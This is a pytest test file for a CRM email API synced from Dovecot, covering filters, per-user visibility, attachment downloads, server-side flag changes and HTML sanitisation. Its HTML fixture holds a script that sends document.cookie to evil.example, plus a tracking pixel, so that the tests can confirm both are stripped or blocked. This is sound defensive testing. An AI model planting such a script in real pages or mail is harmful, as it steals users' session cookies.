"""The email API over mail really synced from the private Dovecot: lists and filters, who
sees what, safe display of HTML, attachment downloads, and changes (read, flag, move,
delete) that happen on the mail server first."""
from __future__ import annotations

from dataclasses import dataclass
from email.message import EmailMessage
from email.utils import make_msgid

import pytest
from rest_framework.test import APIClient

from crm import services as crm_services
from crm.models import Contact, Deal, User
from mailsync import services
from mailsync.models import Email, Mailbox
from tests.factories import ContactFactory, DealFactory, UserFactory
from tests.mailsync.conftest import make_message
from tests.testbed.dovecot import DovecotServer, DovecotUser

pytestmark = pytest.mark.django_db

PDF = b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(64)
HTML = (
    "<p>Please see the <b>attached</b> quote.</p>"
    "<script>document.location='https://evil.example/?'+document.cookie</script>"
    '<img src="https://tracker.example/open.gif?u=42" width="1" height="1">'
    '<img src="cid:logo@customer.example" alt="logo">'
)


def rich_message(*, sender: str, to: str, subject: str) -> bytes:
    """HTML with a script, a tracking pixel and an inline logo, plus a PDF: as clients send it."""
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = sender, to, subject
    msg["Date"] = "Thu, 01 Jan 2026 09:00:00 +0000"
    msg["Message-ID"] = make_msgid(domain="customer.example")
    msg.set_content("Please see the attached quote.")
    msg.add_alternative(HTML, subtype="html")
    msg.get_payload()[1].add_related(PNG, "image", "png", cid="<logo@customer.example>")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="Quote 2026.pdf")
    return msg.as_bytes().replace(b"\n", b"\r\n")


@dataclass
class Scene:
    """A public mailbox synced from Dovecot, its owner, a colleague and the records mail links to."""

    dovecot: DovecotServer
    server_user: DovecotUser
    mailbox: Mailbox
    owner: User
    colleague: User
    contact: Contact
    deal: Deal
    inbox_uids: dict[str, int]

    def email(self, subject: str) -> Email:
        return Email.objects.get(mailbox=self.mailbox, subject=subject)

    def inbox(self):  # noqa: ANN201
        return self.dovecot.folder_state(self.server_user, "INBOX")


def sync(mailbox: Mailbox) -> None:
    """What "Sync now" runs: the sync, then body parsing (its follow-up task)."""
    services.mailbox_sync(mailbox_id=mailbox.pk)
    services.emails_parse_pending(mailbox_id=mailbox.pk)


@pytest.fixture
def scene(dovecot, mail_user, imap_mailbox) -> Scene:
    owner, colleague = imap_mailbox.owner, UserFactory()
    imap_mailbox.sharing = Mailbox.Sharing.PUBLIC
    imap_mailbox.excluded_domains = "partner.example"
    imap_mailbox.save()
    contact = ContactFactory(owner=owner, email="buyer@customer.example")
    deal = DealFactory(owner=owner, contact=contact)
    me = mail_user.email
    uids = {}

    def deliver(subject: str, raw: bytes) -> None:
        dovecot.deliver(mail_user, raw)
        uids[subject] = dovecot.folder_state(mail_user, "INBOX").uids[-1]

    deliver("Quote request", rich_message(sender="Buyer <buyer@customer.example>", to=me,
                                          subject="Quote request"))
    uids["Newsletter"] = dovecot.append(
        mail_user, "INBOX", make_message(sender="News <news@stranger.example>", to=me,
                                         subject="Newsletter"), flags=["\\Seen"],
    )
    deliver("Contract draft", make_message(sender="Lawyer <lawyer@partner.example>", to=me,
                                           subject="Contract draft").replace(
        b"Subject:", b"Cc: buyer@customer.example\r\nSubject:", 1))
    dovecot.append(mail_user, "Sent", make_message(sender=f"Me <{me}>", to="buyer@customer.example",
                                                   subject="Our offer"), flags=["\\Seen"])
    sync(imap_mailbox)
    return Scene(dovecot, mail_user, imap_mailbox, owner, colleague, contact, deal, uids)


@pytest.fixture
def api():
    return APIClient()


def subjects(response) -> set[str]:  # noqa: ANN001
    assert response.status_code == 200, response.content
    return {email["subject"] for email in response.json()["results"]}


# -- lists and filters ------------------------------------------------------------------------

def test_owner_lists_all_synced_mail_including_unlinked(api, scene):
    api.force_authenticate(scene.owner)

    body = api.get("/api/v1/emails/").json()

    assert body["count"] == 4
    by_subject = {email["subject"]: email for email in body["results"]}
    assert set(by_subject) == {"Quote request", "Newsletter", "Contract draft", "Our offer"}
    quote = by_subject["Quote request"]
    assert quote["folders"] == ["INBOX"]
    assert quote["from_address"] == "buyer@customer.example"
    assert quote["direction"] == "received" and quote["seen"] is False
    assert quote["has_attachments"] is True
    assert by_subject["Our offer"]["folders"] == ["Sent"]
    assert by_subject["Our offer"]["direction"] == "sent"


def test_filters_by_record_folder_read_state_and_direction(api, scene):
    api.force_authenticate(scene.owner)
    linked = {"Quote request", "Contract draft", "Our offer"}

    assert subjects(api.get(f"/api/v1/emails/?contact={scene.contact.pk}")) == linked
    assert subjects(api.get(f"/api/v1/emails/?deal={scene.deal.pk}")) == linked
    assert subjects(api.get("/api/v1/emails/?folder=Sent")) == {"Our offer"}
    assert subjects(api.get("/api/v1/emails/?folder=INBOX")) == {"Quote request", "Newsletter", "Contract draft"}
    assert subjects(api.get("/api/v1/emails/?unread=true")) == {"Quote request", "Contract draft"}
    assert subjects(api.get("/api/v1/emails/?unread=false")) == {"Newsletter", "Our offer"}
    assert subjects(api.get("/api/v1/emails/?direction=sent")) == {"Our offer"}
    assert subjects(api.get(f"/api/v1/emails/?mailbox={scene.mailbox.pk}&direction=received&unread=true")) == {
        "Quote request", "Contract draft"
    }
    other_contact = ContactFactory(owner=scene.owner)
    assert subjects(api.get(f"/api/v1/emails/?contact={other_contact.pk}")) == set()


# -- who sees what ----------------------------------------------------------------------------

def test_colleague_sees_nothing_of_a_private_mailbox_even_for_shared_records(api, scene):
    Mailbox.objects.filter(pk=scene.mailbox.pk).update(sharing=Mailbox.Sharing.PRIVATE)
    crm_services.record_share(actor=scene.owner, record=scene.contact, user=scene.colleague)
    api.force_authenticate(scene.colleague)

    assert api.get("/api/v1/emails/").json()["count"] == 0
    assert api.get(f"/api/v1/emails/?contact={scene.contact.pk}").json()["count"] == 0
    assert api.get(f"/api/v1/emails/{scene.email('Quote request').pk}/").status_code == 404


def test_colleague_sees_public_mail_only_when_linked_to_a_record_they_can_see(api, scene):
    api.force_authenticate(scene.colleague)
    quote = scene.email("Quote request")
    # Given a public mailbox, but records the colleague cannot see
    assert api.get("/api/v1/emails/").json()["count"] == 0
    assert api.get(f"/api/v1/emails/{quote.pk}/").status_code == 404

    # When the owner shares the contact
    crm_services.record_share(actor=scene.owner, record=scene.contact, user=scene.colleague)

    # Then the colleague sees the conversation with that contact, and nothing else: not the
    # unlinked newsletter, not the mail with a participant from an excluded domain.
    assert subjects(api.get("/api/v1/emails/")) == {"Quote request", "Our offer"}
    assert api.get(f"/api/v1/emails/{quote.pk}/").status_code == 200
    assert api.get(f"/api/v1/emails/{scene.email('Newsletter').pk}/").status_code == 404
    assert api.get(f"/api/v1/emails/{scene.email('Contract draft').pk}/").status_code == 404
    # The owner still sees all of it
    api.force_authenticate(scene.owner)
    assert api.get("/api/v1/emails/").json()["count"] == 4


def test_colleague_sees_mail_of_a_shared_deal(api, scene):
    crm_services.record_share(actor=scene.owner, record=scene.deal, user=scene.colleague)
    api.force_authenticate(scene.colleague)

    assert subjects(api.get(f"/api/v1/emails/?deal={scene.deal.pk}")) == {"Quote request", "Our offer"}


def test_detail_links_only_records_the_viewer_can_see(api, scene):
    """A colleague who sees the mail through a shared deal is not told which contact (not
    shared with them) it also belongs to; the owner sees both."""
    crm_services.record_share(actor=scene.owner, record=scene.deal, user=scene.colleague)
    quote = scene.email("Quote request")

    api.force_authenticate(scene.colleague)
    links = api.get(f"/api/v1/emails/{quote.pk}/").json()["links"]
    assert links == [{"lead": None, "contact": None, "deal": scene.deal.pk}]
    # nor by filtering on the hidden contact's id (found in review)
    assert api.get(f"/api/v1/emails/?contact={scene.contact.pk}").json()["count"] == 0
    assert subjects(api.get(f"/api/v1/emails/?deal={scene.deal.pk}")) == {"Quote request", "Our offer"}

    api.force_authenticate(scene.owner)
    links = api.get(f"/api/v1/emails/{quote.pk}/").json()["links"]
    assert {(link["contact"], link["deal"]) for link in links} == {
        (scene.contact.pk, None), (None, scene.deal.pk)}


def test_excluding_a_domain_later_hides_mail_already_synced_from_colleagues(api, scene):
    crm_services.record_share(actor=scene.owner, record=scene.contact, user=scene.colleague)
    api.force_authenticate(scene.owner)

    changed = api.patch(f"/api/v1/mailboxes/{scene.mailbox.pk}/",
                        {"excluded_domains": "partner.example\ncustomer.example"}, format="json")

    assert changed.status_code == 200, changed.content
    api.force_authenticate(scene.colleague)
    assert api.get("/api/v1/emails/").json()["count"] == 0
    api.force_authenticate(scene.owner)
    assert api.get("/api/v1/emails/").json()["count"] == 4

    # Removing it again shares that mail again, but never the partner's.
    api.patch(f"/api/v1/mailboxes/{scene.mailbox.pk}/", {"excluded_domains": "partner.example"},
              format="json")
    api.force_authenticate(scene.colleague)
    assert subjects(api.get("/api/v1/emails/")) == {"Quote request", "Our offer"}


# -- reading one mail -------------------------------------------------------------------------

def test_detail_shows_sanitized_html_with_remote_images_blocked(api, scene):
    api.force_authenticate(scene.owner)
    quote = scene.email("Quote request")

    body = api.get(f"/api/v1/emails/{quote.pk}/").json()

    assert "attached</b> quote" in body["html"]
    assert "<script" not in body["html"] and "document.cookie" not in body["html"]
    assert "tracker.example" not in body["html"]
    assert body["blocked_remote_images"] == 1
    assert body["text"].strip() == "Please see the attached quote."
    # The inline logo is served by us, not fetched from anywhere
    logo = next(a for a in body["attachments"] if a["inline"])
    assert f'src="/api/v1/emails/{quote.pk}/attachments/{logo["id"]}/?inline=1"' in body["html"]
    assert "cid:" not in body["html"]

    shown = api.get(f"/api/v1/emails/{quote.pk}/?images=1").json()
    assert 'src="https://tracker.example/open.gif?u=42"' in shown["html"]
    assert shown["blocked_remote_images"] == 0
    assert "<script" not in shown["html"]


def test_attachments_download_as_files_with_their_exact_bytes(api, scene):
    api.force_authenticate(scene.owner)
    quote = scene.email("Quote request")
    attachments = api.get(f"/api/v1/emails/{quote.pk}/").json()["attachments"]
    pdf = next(a for a in attachments if a["filename"] == "Quote 2026.pdf")
    logo = next(a for a in attachments if a["inline"])
    assert pdf["size"] == len(PDF) and pdf["content_type"] == "application/pdf"

    response = api.get(pdf["download_url"])

    assert response.status_code == 200
    assert response.content == PDF
    assert response["Content-Disposition"].startswith("attachment;")
    assert "Quote 2026.pdf" in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/octet-stream"
    assert api.get(f"/api/v1/emails/{quote.pk}/attachments/{logo['id']}/").content == PNG
    # Nobody downloads through another mail's id, nor sees mail they may not see
    newsletter = scene.email("Newsletter")
    assert api.get(f"/api/v1/emails/{newsletter.pk}/attachments/{pdf['id']}/").status_code == 404
    api.force_authenticate(scene.colleague)
    assert api.get(pdf["download_url"]).status_code == 404


def test_a_mail_parsed_by_two_workers_lists_its_attachments_once(api, scene):
    # Given a second parse task that picked the same pending mail (two syncs in a row each
    # queue one) and gets to it after the first one stored the body
    quote = scene.email("Quote request")
    quote.parse_state = Email.ParseState.PENDING  # what the second worker loaded earlier

    services.email_parse(email=quote)

    api.force_authenticate(scene.owner)
    attachments = api.get(f"/api/v1/emails/{quote.pk}/").json()["attachments"]
    assert sorted(a["filename"] for a in attachments if not a["inline"]) == ["Quote 2026.pdf"]
    assert len(attachments) == 2


# -- changes reach the mail server ------------------------------------------------------------

def test_mark_read_and_unread_changes_the_server_flag_and_the_crm(api, scene):
    api.force_authenticate(scene.owner)
    quote, uid = scene.email("Quote request"), scene.inbox_uids["Quote request"]
    assert "\\Seen" not in scene.inbox().flags(uid)

    read = api.patch(f"/api/v1/emails/{quote.pk}/", {"seen": True}, format="json")

    assert read.status_code == 200, read.content
    assert read.json()["seen"] is True
    assert "\\Seen" in scene.inbox().flags(uid)
    quote.refresh_from_db()
    assert quote.seen is True
    # The next sync agrees with what the user did
    sync(scene.mailbox)
    assert subjects(api.get("/api/v1/emails/?unread=true")) == {"Contract draft"}

    unread = api.patch(f"/api/v1/emails/{quote.pk}/", {"seen": False}, format="json")
    assert unread.json()["seen"] is False
    assert "\\Seen" not in scene.inbox().flags(uid)


def test_flag_and_unflag_change_the_server_flag(api, scene):
    api.force_authenticate(scene.owner)
    quote, uid = scene.email("Quote request"), scene.inbox_uids["Quote request"]

    flagged = api.patch(f"/api/v1/emails/{quote.pk}/", {"flagged": True}, format="json")

    assert flagged.json()["flagged"] is True
    assert scene.inbox().flags(uid) == {"\\Flagged"}  # read state untouched
    assert subjects(api.get("/api/v1/emails/?flagged=true")) == {"Quote request"}
    api.patch(f"/api/v1/emails/{quote.pk}/", {"flagged": False}, format="json")
    assert scene.inbox().flags(uid) == frozenset()
    quote.refresh_from_db()
    assert quote.flagged is False


def test_move_to_another_folder_moves_it_on_the_server(api, scene):
    scene.dovecot.create_folder(scene.server_user, "Customers")
    api.force_authenticate(scene.owner)
    quote, uid = scene.email("Quote request"), scene.inbox_uids["Quote request"]

    moved = api.patch(f"/api/v1/emails/{quote.pk}/", {"folder": "Customers"}, format="json")

    assert moved.status_code == 200, moved.content
    assert uid not in scene.inbox().uids
    assert scene.dovecot.folder_state(scene.server_user, "Customers").count == 1
    assert moved.json()["folders"] == ["Customers"]
    # Still in the CRM, also after the next sync; and later actions still reach the server
    sync(scene.mailbox)
    assert api.get(f"/api/v1/emails/{quote.pk}/").status_code == 200
    api.patch(f"/api/v1/emails/{quote.pk}/", {"flagged": True}, format="json")
    [(_, flags)] = scene.dovecot.folder_state(scene.server_user, "Customers").messages
    assert "\\Flagged" in flags


def test_move_into_a_synced_folder_keeps_one_email_after_the_next_sync(api, scene):
    api.force_authenticate(scene.owner)
    quote = scene.email("Quote request")

    moved = api.patch(f"/api/v1/emails/{quote.pk}/", {"folder": "Sent"}, format="json")
    sync(scene.mailbox)

    assert moved.json()["folders"] == ["Sent"]
    assert scene.dovecot.folder_state(scene.server_user, "Sent").count == 2
    assert Email.objects.filter(mailbox=scene.mailbox, subject="Quote request").count() == 1
    assert api.get(f"/api/v1/emails/{quote.pk}/").json()["folders"] == ["Sent"]
    assert quote.locations.count() == 1


def test_move_to_a_folder_that_does_not_exist_is_400_and_moves_nothing(api, scene):
    api.force_authenticate(scene.owner)
    quote, uid = scene.email("Quote request"), scene.inbox_uids["Quote request"]

    response = api.patch(f"/api/v1/emails/{quote.pk}/", {"folder": "No such folder"}, format="json")

    assert response.status_code == 400
    assert "No such folder" in response.json()["errors"]["folder"][0]
    assert uid in scene.inbox().uids
    assert api.get(f"/api/v1/emails/{quote.pk}/").json()["folders"] == ["INBOX"]


def test_delete_moves_to_trash_on_the_server_and_hides_it_in_the_crm(api, scene):
    api.force_authenticate(scene.owner)
    quote, uid = scene.email("Quote request"), scene.inbox_uids["Quote request"]

    response = api.delete(f"/api/v1/emails/{quote.pk}/")

    assert response.status_code == 204
    assert uid not in scene.inbox().uids
    assert scene.dovecot.folder_state(scene.server_user, "Trash").count == 1
    assert api.get(f"/api/v1/emails/{quote.pk}/").status_code == 404
    assert "Quote request" not in subjects(api.get("/api/v1/emails/"))
    # A recoverable tombstone, not a hard delete; the next sync does not bring it back
    quote.refresh_from_db()
    assert quote.deleted_at is not None
    sync(scene.mailbox)
    assert "Quote request" not in subjects(api.get("/api/v1/emails/"))


def test_a_mail_server_that_is_down_is_a_502_and_nothing_changes(api, scene):
    """Settings that worked and a server that does not answer now: an outage the client may
    retry (502), not a 400 that says the request was wrong."""
    import socket

    api.force_authenticate(scene.owner)
    quote = scene.email("Quote request")
    with socket.socket() as closed:  # a port nothing listens on
        closed.bind(("127.0.0.1", 0))
        port = closed.getsockname()[1]
    Mailbox.objects.filter(pk=scene.mailbox.pk).update(incoming_port=port)

    response = api.patch(f"/api/v1/emails/{quote.pk}/", {"seen": True}, format="json")
    assert response.status_code == 502, response.content
    assert response.json()["code"] == "unreachable"
    assert api.delete(f"/api/v1/emails/{quote.pk}/").status_code == 502
    quote.refresh_from_db()
    assert not quote.seen and quote.deleted_at is None


def test_colleague_cannot_change_or_delete_someone_elses_mail(api, scene):
    crm_services.record_share(actor=scene.owner, record=scene.contact, user=scene.colleague)
    api.force_authenticate(scene.colleague)
    quote, uid = scene.email("Quote request"), scene.inbox_uids["Quote request"]
    newsletter = scene.email("Newsletter")

    # Mail they can read: 403
    assert api.patch(f"/api/v1/emails/{quote.pk}/", {"seen": True}, format="json").status_code == 403
    assert api.patch(f"/api/v1/emails/{quote.pk}/", {"folder": "Trash"}, format="json").status_code == 403
    assert api.delete(f"/api/v1/emails/{quote.pk}/").status_code == 403
    # Mail they cannot see: 404
    assert api.patch(f"/api/v1/emails/{newsletter.pk}/", {"seen": False}, format="json").status_code == 404
    assert api.delete(f"/api/v1/emails/{newsletter.pk}/").status_code == 404

    # Nothing changed on the server or in the CRM
    inbox = scene.inbox()
    assert inbox.flags(uid) == frozenset()
    assert scene.inbox_uids["Newsletter"] in inbox.uids
    quote.refresh_from_db()
    newsletter.refresh_from_db()
    assert (quote.seen, quote.deleted_at, newsletter.deleted_at) == (False, None, None)
